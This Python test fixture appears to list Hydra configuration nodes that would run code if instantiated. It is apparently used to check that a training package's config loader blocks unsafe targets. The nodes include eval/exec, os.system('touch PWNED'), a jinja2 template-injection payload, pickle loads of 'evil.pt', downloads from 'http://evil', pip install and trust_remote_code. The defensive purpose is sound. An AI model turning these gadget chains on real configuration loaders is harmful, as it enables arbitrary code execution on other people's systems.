"""Nodes of a configuration that would execute something, and the user's module that some of them name."""

from __future__ import annotations

from typing import Any

KEPT = "tests.config.recorder.Kept"
COMMAND = "touch PWNED"
EXPRESSION = "open('PWNED', 'w')"


def get(path: str) -> dict[str, Any]:
    return {"_target_": "hydra.utils.get_method", "path": path}


def called(path: str, *args: Any, **arguments: Any) -> dict[str, Any]:
    return {"_target_": path, **({"_args_": list(args)} if args else {}), **arguments}


RELU = {"_target_": "torch.nn.ReLU"}
ATTACKS: dict[str, dict[str, Any]] = {
    # evaluation of text
    "typing evaluates a forward reference": called("typing.ForwardRef._evaluate", EXPRESSION),
    "typing hints": called("typing.get_type_hints", get("mine.Net")),
    "typing_extensions hints": called("typing_extensions.get_type_hints", get("mine.Net")),
    "inspect signature": called("inspect.signature", get("mine.net"), eval_str=True),
    "eval": called("builtins.eval", EXPRESSION),
    "exec": called("builtins.exec", EXPRESSION),
    "import": called("builtins.__import__", "antigravity"),
    "compile": called("builtins.compile", EXPRESSION, "x", "eval"),
    "sympy": called("sympy.sympify", EXPRESSION),
    "sympy parser": called("sympy.parsing.sympy_parser.parse_expr", EXPRESSION),
    "sympy lambdify": called("sympy.lambdify", ["x"], EXPRESSION),
    "mpmath": called("mpmath.mp.quad", get("builtins.print"), [0, 1]),
    "jinja2": called("jinja2.Template", "{{ cycler.__init__.__globals__.os.system('touch PWNED') }}"),
    "jinja2 environment": called("jinja2.Environment.from_string", "{{ 1 }}"),
    "pygments lexer file": called("pygments.lexers.load_lexer_from_file", "evil.py"),
    "pygments formatter file": called("pygments.formatters.load_formatter_from_file", "evil.py"),
    "numexpr in numpy": called("numpy.f2py.compile", "x"),
    "pydantic": called("pydantic.create_model", "M", x=EXPRESSION),
    "networkx": called("networkx.read_gpickle", "evil.pkl"),
    "onnxscript": called("onnxscript.script"),
    "doctest": called("doctest.run_docstring_examples", EXPRESSION, {}),
    "code": called("code.interact"),
    "runpy": called("runpy.run_path", "evil.py"),
    "timeit": called("timeit.timeit", EXPRESSION),
    "cProfile": called("cProfile.run", EXPRESSION),
    "trace": called("trace.Trace.run", EXPRESSION),
    "pdb": called("pdb.run", EXPRESSION),
    # torch
    "benchmark timer": called("torch.utils.benchmark.Timer", EXPRESSION),
    "benchmark timer where it is defined": called("torch.utils.benchmark.utils.timer.Timer", EXPRESSION),
    "fx graph module": called("torch.fx.GraphModule", RELU, {}),
    "fx graph module where it is defined": called("torch.fx.graph_module.GraphModule", RELU, {}),
    "fx code": called("torch.fx.graph_module._forward_from_src", EXPRESSION, {}),
    "fx exec": called("torch.fx.graph_module._exec_with_source", EXPRESSION, {}),
    "package importer": called("torch.package.PackageImporter", "evil.pt"),
    "package's private importer": called("torch.package.importer._SysImporter.import_module", "antigravity"),
    "tree map": called("torch.utils._pytree.tree_map", get("mine.net"), [1]),
    "load": called("torch.load", "evil.pt"),
    "load where it is defined": called("torch.serialization.load", "evil.pt"),
    "legacy load": called("torch.serialization._legacy_load", "evil.pt"),
    "save": called("torch.save", 1, "PWNED"),
    "hub": called("torch.hub.load", "evil/evil", "evil"),
    "cpp extension": called("torch.utils.cpp_extension.load_inline", "evil", "int main"),
    "a class of cpp_extension": called("torch.utils.cpp_extension.CppExtension", "evil", ["evil.cpp"]),
    "a module that calls remotely": called("torch.distributed.nn.api.remote_module.RemoteModule", "w", "os.system"),
    "jit load": called("torch.jit.load", "evil.pt"),
    "jit script module": called("torch.jit.ScriptModule"),
    "jit compilation unit": called("torch.jit.CompilationUnit", "def f(): pass"),
    "a library of operators": called("torch.ops.load_library", "evil.so"),
    "classes": called("torch.classes.load_library", "evil.so"),
    "model zoo": called("torch.utils.model_zoo.load_url", "http://evil"),
    "an opener among the datasets": called("torch.utils.data.datapipes.iter.FileOpener", ["PWNED"], mode="w"),
    "an opener where it is defined": called(
        "torch.utils.data.datapipes.iter.fileopener.FileOpenerIterDataPipe", ["PWNED"], mode="w"
    ),
    "spawn": called("torch.multiprocessing.spawn", get("mine.net")),
    "elastic": called("torch.distributed.run.main", ["evil.py"]),
    "rpc": called("torch.distributed.rpc.init_rpc", "w"),
    "store": called("torch.distributed.TCPStore", "0.0.0.0", 1234),
    "a checkpoint reader": called("torch.distributed.checkpoint.FileSystemReader", "evil"),
    "dcp load": called("torch.distributed.checkpoint.load", {}),
    "export": called("torch.export.load", "evil.pt2"),
    "inductor": called("torch._inductor.aoti_load_package", "evil.pt2"),
    "compile backend": called("torch.compile", RELU, backend="evil"),
    "dynamo": called("torch._dynamo.optimize", "evil"),
    "profiler": called("torch.profiler.profile"),
    "from_file": called("torch.from_file", "PWNED", shared=True, size=8),
    "storage from file": called("torch.UntypedStorage.from_file", "PWNED", True, 8),
    "tensorboard": called("torch.utils.tensorboard.SummaryWriter", "PWNED"),
    "a tensor's method": called("torch.Tensor.map_", 1),
    "a private function of nn": called("torch.nn.functional._verify_batch_size", [1]),
    "import through nn": called("torch.nn.functional.importlib.import_module", "antigravity"),
    "through nn to warnings": called("torch.nn.modules.module.warnings.warn", "x"),
    "numpy in torch": called("torch.utils.data._utils.worker.os.system", COMMAND),
    # numpy
    "numpy library": called("numpy.ctypeslib.load_library", "evil", "."),
    "tofile": called("numpy.ndarray.tofile", [1], "PWNED"),
    "numpy load": called("numpy.load", "evil.npy", allow_pickle=True),
    "numpy where it is defined": called("numpy.lib._npyio_impl.load", "evil.npy", allow_pickle=True),
    "memmap": called("numpy.memmap", "PWNED", mode="w+", shape=[1]),
    "numpy open": called("numpy.DataSource.open", "evil"),
    "apply": called("numpy.apply_along_axis", get("mine.net"), 0, [1]),
    "vectorize": called("numpy.vectorize", get("mine.net")),
    "fromregex": called("numpy.fromregex", "x", "y", "i4"),
    "scipy": called("scipy.io.loadmat", "evil.mat"),
    "sklearn": called("sklearn.datasets.load_svmlight_file", "x"),
    "joblib": called("joblib.load", "evil"),
    "imageio": called("imageio.imwrite", "PWNED", [1]),
    "skimage": called("skimage.io.imsave", "PWNED", [1]),
    "PIL": called("PIL.Image.open", "evil.png"),
    # chains
    "partial of system": called("functools.partial", get("os.system"), COMMAND),
    "reduce": called("functools.reduce", get("mine.net"), [COMMAND]),
    "operator call": called("operator.call", get("os.system"), COMMAND),
    "attrgetter": called("operator.attrgetter", "__globals__"),
    "methodcaller": called("operator.methodcaller", "system", COMMAND),
    "map": called("builtins.map", get("os.system"), [COMMAND]),
    "starmap": called("itertools.starmap", get("os.system"), [[COMMAND]]),
    "getattr": called("builtins.getattr", get("mine.net"), "__globals__"),
    "type": called("builtins.type", "Evil", [], {}),
    "make_dataclass": called("dataclasses.make_dataclass", "x", []),
    "namedtuple": called("collections.namedtuple", "x", "y"),
    "deepcopy": called("copy.deepcopy", 1),
    "get_class": {"_target_": "hydra.utils.get_class", "path": "subprocess.Popen"},
    "get_object": {"_target_": "hydra.utils.get_object", "path": "sys.modules"},
    "get_static_method": {"_target_": "hydra.utils.get_static_method", "path": "os.system"},
    "hydra instantiates": called("hydra.utils.instantiate", {"_target_": "os.system"}),
    "omegaconf loads": called("omegaconf.OmegaConf.load", "evil.yaml"),
    "a resolver": called("omegaconf.OmegaConf.register_new_resolver", "x", get("mine.net")),
    "left to the target": {"_target_": KEPT, "_recursive_": False, "inner": [called("os.system", COMMAND)]},
    "a method left to the target": {"_target_": KEPT, "_recursive_": False, "inner": get("os.system")},
    "in positional arguments": called("torch.nn.Sequential", called("os.system", COMMAND)),
    "in a list of mappings": {"_target_": KEPT, "x": [{"y": {"z": called("os.system", COMMAND)}}]},
    "partial": {"_target_": "os.system", "_partial_": True, "_args_": [COMMAND]},
    # re-exports by the user's modules
    "a name of the user": called("mine.system", COMMAND),
    "a module of the user": called("mine.subprocess.run", COMMAND),
    "an alias": called("mine.loader", "evil.pt"),
    "a partial of the user's module": called("mine.bound"),
    "double underscores": called("mine.net.__globals__.get", "os"),
    "globals of a class": called("mine.Net.__init__.__globals__.get", "os"),
    # this package and Lightning
    "our import": called("trainer.config.instantiate.import_module", "antigravity"),
    "our writer": called("trainer.core.files.write_atomic", "PWNED", "x"),
    "our cache": called("trainer.data.cache.prepared", "PWNED", get("mine.net")),
    "our reader of pickles": called("trainer.checkpoint.foreign.read_pickled", "evil.pt"),
    "our loader": called("trainer.checkpoint.io.load_state", "evil", weights_only=False),
    "our command line": called("trainer.cli.main", ["rm", "x"]),
    "our n-grams": called("trainer.data.ngram.main", ["x"]),
    "our tokens": called("trainer.data.tokenizers.write_tokens", "PWNED", [], None),
    "our node": called("trainer.supervise.node.main"),
    "our starter": called("trainer.starter.folder.expand", ["data=PWNED"]),
    "Lightning's loader": called("lightning.pytorch.core.saving._load_from_checkpoint", get("mine.Net"), "evil.ckpt"),
    "a checkpoint of the user's class": called("mine.Net.load_from_checkpoint", "evil.ckpt"),
    "a checkpoint without weights_only": called("mine.Net.load_from_checkpoint", "evil.ckpt", weights_only=False),
    "Lightning's files": called("lightning.fabric.utilities.cloud_io._load", "evil.ckpt"),
    "Lightning's command line": called("lightning.pytorch.cli.LightningCLI"),
    "a callback of the command line": called("lightning.pytorch.cli.SaveConfigCallback", None, {}, "PWNED"),
    "Lightning's server": called("lightning.pytorch.serve.ServableModuleValidator"),
    "Lightning's launcher": called("lightning.fabric.cli._run"),
    "Lightning's data": called("lightning.pytorch.demos.mnist_datamodule.MNIST", "evil"),
    "deepspeed launcher": called("deepspeed.launcher.runner.main", ["evil.py"]),
    "deepspeed builder": called("deepspeed.ops.op_builder.builder.OpBuilder", "evil"),
    "a metric's helper": called("torchmetrics.utilities.imports.RequirementCache", "x"),
    # other packages
    "fsspec": called("fsspec.open", "PWNED", "w"),
    "cloudpickle": called("cloudpickle.loads", "x"),
    "requests": called("requests.get", "http://evil"),
    "huggingface_hub": called("huggingface_hub.snapshot_download", "evil/evil"),
    "wandb": called("wandb.init"),
    "wandb's launch": called("wandb.sdk.launch.launch", "evil"),
    "fsspec's templates, by a logger": called(
        "lightning.pytorch.loggers.CSVLogger", "reference://::file:///tmp/evil.json", name="x"
    ),
    "fsspec's templates, by a callback": called(
        "lightning.pytorch.callbacks.ModelCheckpoint", dirpath="s3://a::reference::http://evil/x.json"
    ),
    "fsspec's templates, by our data": called(
        "trainer.data.token_shards.TokenShards", root="reference://::http://evil/x.json", sequence_length=8
    ),
    "safetensors": called("safetensors.torch.save_file", {}, "PWNED"),
    "tokenizers": called("tokenizers.Tokenizer.from_file", "evil"),
    "click": called("click.edit", "x", editor=COMMAND),
    "setuptools": called("setuptools.setup", script_args=["x"]),
    "pip": called("pip.main", ["install", "evil"]),
    "pytest": called("pytest.main", ["evil.py"]),
    "ninja": called("ninja._program", "ninja", []),
    "virtualenv": called("virtualenv.cli_run", ["PWNED"]),
    "mkdocs": called("mkdocs.__main__.cli"),
    "rich": called("rich.inspect", 1),
    "psutil": called("psutil.Popen", [COMMAND]),
    "filelock": called("filelock.FileLock", "PWNED"),
    "antlr": called("antlr4.FileStream", "evil"),
    "yaml": called("yaml.unsafe_load", "x"),
    "os": called("os.system", COMMAND),
    "pathlib": called("pathlib.Path.write_text", "PWNED", "x"),
    "subprocess": called("subprocess.Popen", [COMMAND]),
    "ctypes": called("ctypes.CDLL", "evil.so"),
    "logging": called("logging.config.dictConfig", {"version": 1}),
    "importlib": called("importlib.import_module", "antigravity"),
    "atexit": called("atexit.register", get("mine.net")),
    "weakref": called("weakref.finalize", 1, get("mine.net")),
    "threading": called("threading.Timer", 0, get("mine.net")),
    "concurrent": called("concurrent.futures.ThreadPoolExecutor", 1, "x", get("mine.net")),
    "shelve": called("shelve.open", "PWNED"),
    "sqlite": called("sqlite3.connect", "PWNED"),
    "webbrowser": called("webbrowser.open", "http://evil"),
    "transformers' pipeline": called("transformers.pipeline", "text-generation", "evil/evil"),
    "transformers with code": called("transformers.AutoModel.from_pretrained", "evil/evil", trust_remote_code=True),
    "transformers' kernels": called("transformers.AutoModel.from_pretrained", "e", attn_implementation="evil/kernel"),
    "transformers' loader of classes": called(
        "transformers.dynamic_module_utils.get_class_from_dynamic_module", "a.B", "evil/evil"
    ),
    "a partial with code": called(
        "functools.partial", get("transformers.AutoModel.from_pretrained"), "evil", trust_remote_code=True
    ),
    "auto_map of ours": called("trainer.models.hf.HuggingFace", config={"model_type": "gpt2", "auto_map": {"a": "b"}}),
    "code of ours": called("trainer.models.hf.HuggingFace", config={"model_type": "gpt2", "trust_remote_code": True}),
    "timm unpickles": called("timm.create_model", "resnet50", checkpoint_path="evil.pth"),
    "timm unpickles for us": called("trainer.models.timm.create", "resnet50", options={"checkpoint_path": "evil.pth"}),
    "timm's folder": called("timm.create_model", "local-dir:evil"),
    "timm's loader": called("timm.models.load_checkpoint", RELU, "evil.pth"),
    "peft imports": called("peft.LoraConfig", megatron_core="antigravity"),
    "torchvision downloads": called("torchvision.datasets.utils.download_url", "http://evil", "."),
    "torchvision writes": called("torchvision.io.write_file", "PWNED", 1),
}
NOT_INSTALLED = {"transformers", "timm", "peft", "torchvision"}

USERS = """
import functools
import subprocess
from os import system

import torch
from lightning.pytorch import LightningModule
from torch import load as loader


def net(*args, **kwargs):
    raise RuntimeError("called")


bound = functools.partial(system, "touch PWNED")
act = torch.nn.functional.gelu


class Net(LightningModule):
    def __init__(self, *args, **kwargs):
        super().__init__()
"""
